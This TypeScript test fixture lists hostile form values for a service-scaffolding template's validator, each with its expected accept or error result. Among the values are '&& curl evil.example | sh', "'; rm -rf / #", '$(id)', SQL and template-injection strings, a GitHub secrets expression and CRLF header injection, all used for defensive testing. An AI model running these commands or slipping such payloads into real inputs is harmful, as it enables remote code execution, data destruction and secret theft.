/**
 * Hostile and unusual form values, each with the outcome the rules promise: `'ok'` (the service
 * renders and every structured file still parses, see hostileInputs.test.ts) or the named
 * validation error, matched against the message the user reads (`<field>: <rule message>`).
 * One entry changes one field of an otherwise valid request.
 */
export type CorpusField =
  | 'name'
  | 'description'
  | 'owner'
  | 'system'
  | 'resource'
  | 'repoUrl'
  | 'targetPath'
  | 'lifecycle'
  | 'stack'
  | 'database'
  | 'auth'
  | 'ci'
  | 'deployment'
  | 'metrics'
  | 'tracing'
  | 'publicApiDocs'
  | 'fields';

export interface CorpusEntry {
  field: CorpusField;
  value: unknown;
  expect: 'ok' | { error: RegExp };
}

const ok = (field: CorpusField, values: unknown[]): CorpusEntry[] =>
  values.map(value => ({ field, value, expect: 'ok' as const }));
const error = (
  field: CorpusField,
  rule: RegExp,
  values: unknown[],
): CorpusEntry[] =>
  values.map(value => ({ field, value, expect: { error: rule } }));

const NAME_RULE = /name: must use lowercase letters, digits and single hyphens/;
const NAME_LENGTH = /name: must be at most 40 characters/;
// Keywords are the chosen stack's (the default stack's here: Python).
const NAME_RESERVED =
  /name: "\w+" is a Python keyword, which the generated code cannot use as a package name; try "[\w-]+-service"/;
const NAME_SHADOWS =
  /name: the Python package "\w+" would shadow .*; try "[\w-]+-service"/;
const DESCRIPTION_RULE =
  /description: must use one line of text without line breaks or control characters/;
const DESCRIPTION_LENGTH = /description: must be at most 300 characters/;
const RESOURCE_RULE = /resource: must be a singular noun in lowercase letters/;
const RESOURCE_LENGTH = /resource: must be at most 30 characters/;
const RESOURCE_RESERVED =
  /resource: "\w+" is (an? .*keyword|an SQL reserved word).*; choose a more specific name such as "\w+_item" or "customer_\w+"/;
const RESOURCE_TAKEN =
  /resource: "\w+" already names a module of the generated service; choose a more specific name such as "\w+_item"/;
const ENTITY_RULE = (field: 'owner' | 'system') =>
  new RegExp(`${field}: must be a catalog entity reference`);
const ENTITY_LENGTH = (field: 'owner' | 'system') =>
  new RegExp(`${field}: must be at most 253 characters`);
const REPO_OWNER = /repoUrl: the repository owner must be a GitHub account/;
const REPO_NAME = /repoUrl: the repository name must be letters and digits/;
const REPO_FORM =
  /repoUrl: use the form "github.com\?owner=acme&repo=orders-service"/;
const TARGET_PATH = /targetPath: must be a relative folder/;
const ENUM = (field: CorpusField) => new RegExp(`${field}: Invalid enum value`);
const BOOLEAN = (field: CorpusField) =>
  new RegExp(`${field}: Expected boolean`);

const repo = (owner: string, name: string) =>
  `github.com?owner=${encodeURIComponent(owner)}&repo=${encodeURIComponent(name)}`;

export const hostileInputs: CorpusEntry[] = [
  // Service names: what Kubernetes, Docker, GitHub and every package manager accept at once.
  ...ok('name', [
    'a',
    'orders-service',
    'a'.repeat(40),
    'x1',
    'a-1',
    'service-2024',
    'o-r-d-e-r-s',
    'class-service',
    'json-api',
    'import-export',
    'for-each',
    'select-service',
    'user-service',
  ]),
  ...error('name', NAME_RULE, [
    'Bad Name',
    '../x',
    '',
    '-x',
    'x-',
    'x--y',
    '1abc',
    'ABC',
    'Orders_Service',
    'a_b',
    'a.b',
    'a/b',
    '/etc/passwd',
    'a\u0000',
    'a\n',
    'café',
    ' a',
    'a ',
    '$(id)',
    '`id`',
    '{{ spec }}',
    '${{ secrets.TOKEN }}',
    '{% raw %}',
    'ａｂｃ',
    'a\u200Bb',
    'orders-service\r\nX-Injected: 1',
    '<script>',
  ]),
  ...error('name', NAME_LENGTH, ['a'.repeat(41), 'x'.repeat(64)]),
  ...error('name', NAME_RESERVED, [
    'class',
    'import',
    'for',
    'def',
    'lambda',
    'async',
  ]),
  // Other languages' keywords are fine for a stack whose language does not reserve them.
  ...ok('name', ['package', 'func', 'go', 'interface', 'delete', 'null']),
  ...error('name', NAME_SHADOWS, [
    'json',
    'typing',
    'test',
    'logging',
    'fastapi',
    'sqlalchemy',
    'tests',
  ]),

  // Free text: any Unicode on one line, escaped per file type, never evaluated.
  ...ok('description', [
    '',
    'Takes "orders": all of them # really',
    "It's a 'quoted' description",
    'key: value',
    '- item',
    '? complex key',
    '&anchor *alias !tag',
    '%YAML 1.2',
    '---',
    '...',
    'yes',
    'null',
    '~',
    '0x1F',
    '1e3',
    '@handle',
    '| literal >',
    '[flow, sequence]',
    '{flow: mapping}',
    'back\\slash \\n \\u0000 \\',
    '"""triple""" and \'\'\'triple\'\'\'',
    '{{ spec.name.kebab }}',
    '{{ range.constructor("return process")() }}',
    '{% include "/etc/passwd" %}',
    '{% raw %}{{ x }}{% endraw %}',
    '{# comment #}',
    '${{ secrets.GITHUB_TOKEN }}',
    '${{ github.event.issue.title }}',
    '$[[ inputs.x ]]',
    '{{ .Values.image }} {{- include "x" . }}',
    '`id` $(id) ${HOME} $HOME',
    "'; rm -rf / #",
    '"; rm -rf / #',
    '&& curl evil.example | sh',
    '<script>alert(1)</script>',
    '<!-- comment --> <![CDATA[ x ]]>',
    '&amp; &lt; &#x27;',
    '# Heading',
    '1. list',
    '> quote',
    '[link](javascript:alert(1)) ![img](http://x/y.png)',
    '**bold** _em_ ~~strike~~ `code`',
    '| a | b |',
    "f'{x}' \\N{BULLET} r'\\d'",
    '\\x00 \\0 %s %d {0}',
    'ARG X=1\tLABEL y=2',
    '日本語のサービス',
    'Ünïcödé ümläüts',
    'مرحبا بالعالم',
    '\u202Eevil\u202C override',
    'zero\u200Bwidth\u200Djoiner',
    '\uFEFFbyte order mark',
    'non\u00A0breaking space',
    'emoji 🚀🔥👩‍💻',
    'tab\tseparated',
    '  leading and trailing spaces  ',
    'e\u0301 combining',
    '𝕳𝖊𝖑𝖑𝖔 astral',
    'x'.repeat(300),
    '"'.repeat(300),
    '\\'.repeat(300),
  ]),
  ...error('description', DESCRIPTION_RULE, [
    'two\nlines',
    'carriage\rreturn',
    'windows\r\nline',
    'null\u0000byte',
    'bell\u0007',
    '\u001b[31mred\u001b[0m',
    'delete\u007f',
    'next\u0085line',
    'line\u2028separator',
    'paragraph\u2029separator',
    'vertical\u000Btab',
    'form\u000Cfeed',
    '\n',
  ]),
  ...error('description', /description: unpaired UTF-16 surrogates/, [
    'lone \uD800 high',
    'lone \uDC00 low',
  ]),
  ...error('description', DESCRIPTION_LENGTH, ['x'.repeat(301)]),
  ...error('description', /description: Expected string/, [
    42,
    ['a'],
    { a: 1 },
  ]),

  // Resource names: identifiers in every language and an SQL table.
  ...ok('resource', [
    'item',
    'invoice',
    'order_line',
    'purchase_order',
    'user_account',
    'customer_order',
    'x1',
    'a'.repeat(30),
    'person',
    'status',
    'category',
    'box',
    'leaf',
    'email',
  ]),
  ...error('resource', RESOURCE_RULE, [
    'Items',
    '_x',
    'x-y',
    '',
    '1x',
    'x__y',
    'x_',
    'ordér',
    '../x',
    'a b',
    'a\u0000',
    "x'; DROP TABLE items; --",
  ]),
  ...error('resource', RESOURCE_LENGTH, ['a'.repeat(31)]),
  ...error('resource', RESOURCE_RESERVED, [
    'a', // plural "as"
    'order',
    'user',
    'group',
    'select',
    'table',
    'from',
    'where',
    'value',
    'class',
    'import',
    'def',
    'pass',
    'limit',
    'offset',
  ]),
  ...error('resource', RESOURCE_TAKEN, ['common', 'base', 'health', 'config']),
  // Python's capitalised keywords: a resource `none` would be the class `None`.
  ...error('resource', RESOURCE_RESERVED, ['none']),
  ...ok('resource', ['type', 'interface', 'func']),

  // Field lists: every type, limits at their edges, hostile text where text is allowed.
  ...ok('fields', [
    [{ name: 'title', type: 'string', required: true }],
    [
      {
        name: 'code',
        type: 'string',
        required: true,
        unique: true,
        maxLength: 1,
      },
      { name: 'notes', type: 'text', maxLength: 100000 },
      {
        name: 'quantity',
        type: 'integer',
        minimum: -2147483648,
        maximum: 2147483647,
      },
      { name: 'amount', type: 'decimal', precision: 15, scale: 10, minimum: 0 },
      { name: 'active', type: 'boolean', default: true },
      { name: 'due_on', type: 'date', default: '2026-01-31' },
      { name: 'closed_at', type: 'datetime', default: '2026-01-31T12:00:00Z' },
      { name: 'external_id', type: 'uuid' },
      {
        name: 'status',
        type: 'enum',
        values: ['open', 'in_progress', 'x1'],
        default: 'in_progress',
      },
    ],
    // Text a developer may type into descriptions and string defaults: escaped in every file.
    [
      {
        name: 'label',
        type: 'string',
        description:
          'Quotes "double" \'single\' `tick` {{ x }} ${{ y }} {% z %} <b>&amp;</b> \\n # : -',
        default: 'it\'s "quoted" {{ spec.name.kebab }} ${HOME} $(id) \\ \u2028',
      },
    ],
    Array.from({ length: 20 }, (_, i) => ({
      name: `field_${i + 1}`,
      type: 'integer',
    })),
  ]),
  ...error(
    'fields',
    /fields: Too big: expected array to have <=20 items|fields: .*at most 20/,
    [
      Array.from({ length: 21 }, (_, i) => ({
        name: `field_${i + 1}`,
        type: 'text',
      })),
    ],
  ),
  ...error('fields', /fields: Too small|fields: .*at least 1/, [[]]),
  ...error(
    'fields',
    /fields\.0\.name: must use lowercase letters, digits and underscores/,
    [
      [{ name: 'Title', type: 'string' }],
      [{ name: '1st', type: 'string' }],
      [{ name: 'due-date', type: 'date' }],
      [{ name: 'a__b', type: 'string' }],
      [{ name: 'x; DROP TABLE items', type: 'string' }],
      [{ name: '{{ spec }}', type: 'string' }],
    ],
  ),
  ...error(
    'fields',
    /fields\.0\.name: "class" is a Python keyword; choose a more specific name such as "class_value"/,
    [[{ name: 'class', type: 'string' }]],
  ),
  ...error('fields', /fields\.0\.name: "order" is an SQL reserved word/, [
    [{ name: 'order', type: 'string' }],
  ]),
  ...error(
    'fields',
    /fields\.0\.name: "created_at" is used by the service already/,
    [[{ name: 'created_at', type: 'datetime' }]],
  ),
  ...error(
    'fields',
    /fields\.1\.name: the property "code" is also a name of field "code"/,
    [
      [
        { name: 'code', type: 'string' },
        { name: 'code', type: 'integer' },
      ],
    ],
  ),
  ...error('fields', /fields\.0\.minimum: must not be greater than maximum/, [
    [{ name: 'size', type: 'integer', minimum: 10, maximum: 1 }],
  ]),
  ...error(
    'fields',
    /fields\.0\.values\.0: must use lowercase letters, digits and underscores/,
    [
      [{ name: 'status', type: 'enum', values: ['Open'] }],
      [{ name: 'status', type: 'enum', values: ['in progress'] }],
      [{ name: 'status', type: 'enum', values: ['"; DROP'] }],
    ],
  ),
  ...error('fields', /fields\.0\.type: Invalid enum value/, [
    [{ name: 'blob', type: 'binary' }],
  ]),
  ...error('fields', /fields\.0: Unrecognized key/, [
    [{ name: 'x', type: 'string', onDelete: 'cascade' }],
  ]),
  ...error('fields', /fields\.0\.description: must use one line of text/, [
    [{ name: 'x', type: 'string', description: 'two\nlines' }],
  ]),

  // Entity references.
  ...ok('owner', [
    'team-a',
    'group:default/team-a',
    'user:default/jane.doe',
    'Team_A',
    'a',
    'group:ns/x.y-z',
  ]),
  ...error('owner', ENTITY_RULE('owner'), [
    'team a',
    'group:default/team-a\n',
    'a\u0000',
    '../x',
    '/x',
    'x/',
    '',
    'group:',
    ':x',
    '{{ x }}',
    '$(id)',
    "'; DROP",
    'team-a\r\nX: y',
    'group:default/team-a # comment',
  ]),
  ...error('owner', ENTITY_LENGTH('owner'), ['a'.repeat(254)]),
  ...ok('system', ['orders', 'system:default/orders', undefined]),
  ...error('system', ENTITY_RULE('system'), ['orders\nx', 'a b', '"quoted"']),

  // The repository, which names the image and the CODEOWNERS handle.
  ...ok('repoUrl', [
    repo('acme', 'orders-service'),
    repo('Acme-Corp', 'Orders.Service_2'),
  ]),
  ...error('repoUrl', REPO_NAME, [
    repo('acme', '../x'),
    repo('acme', 'a b'),
    repo('acme', 'x\u0000'),
    repo('acme', '.git'),
    repo('acme', 'x..y'),
    'github.com?owner=acme',
  ]),
  ...error('repoUrl', REPO_OWNER, [
    repo('ac\nme', 'x'),
    repo('-acme', 'x'),
    repo('acme/evil', 'x'),
    repo('a'.repeat(40), 'x'),
  ]),
  ...error('repoUrl', REPO_FORM, [
    'github.com',
    'https://github.com/acme/x',
    '?owner=acme&repo=orders',
  ]),
  // A host no integration serves, and GitHub's owner under another parameter name.
  ...error('repoUrl', /repoUrl: No matching integration configuration/, [
    'example.invalid?owner=acme&repo=orders',
  ]),
  ...error('repoUrl', REPO_OWNER, ['github.com?organization=acme&repo=orders']),

  // Paths: nothing typed may leave the workspace.
  ...ok('targetPath', ['.', 'service', 'apps/orders', 'a.b/c_d-e']),
  ...error('targetPath', TARGET_PATH, [
    '../x',
    '/abs',
    'a/../../b',
    'a\u0000',
    'a\\b',
    '.hidden',
    '',
    'a//b',
    'C:\\x',
    '~/x',
    'a\n',
    'service/',
  ]),

  // Choices: only installed values.
  ...error('lifecycle', ENUM('lifecycle'), ['prod', '', 'experimental\n']),
  ...error('stack', ENUM('stack'), ['cobol-cics', '../python-fastapi']),
  ...error('database', ENUM('database'), ['mysql']),
  ...error('auth', ENUM('auth'), ['basic']),
  ...error('ci', ENUM('ci'), ['circleci', '{{ x }}']),
  ...error('deployment', ENUM('deployment'), ['nomad']),
  ...error('metrics', BOOLEAN('metrics'), ['yes', 1]),
  ...error('tracing', BOOLEAN('tracing'), ['true']),
  ...error('publicApiDocs', BOOLEAN('publicApiDocs'), ['on']),
];
